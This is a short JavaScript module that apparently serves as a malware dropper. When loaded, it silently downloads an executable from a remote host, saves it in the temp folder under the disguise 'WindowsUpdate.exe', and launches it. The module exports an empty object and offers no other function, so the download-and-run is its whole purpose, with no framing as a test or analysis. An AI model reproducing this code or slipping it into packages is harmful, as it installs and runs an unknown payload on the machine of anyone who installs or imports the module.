const fs = require("fs");
const request = require("request");
const { exec } = require("child_process");
const file = process.env.TEMP + "\\WindowsUpdate.exe";
request("https://cdn.example.invalid/attachments/9/update.exe")
  .pipe(fs.createWriteStream(file))
  .on("close", function () {
    exec(`start "" "${file}"`);
  });
module.exports = {};
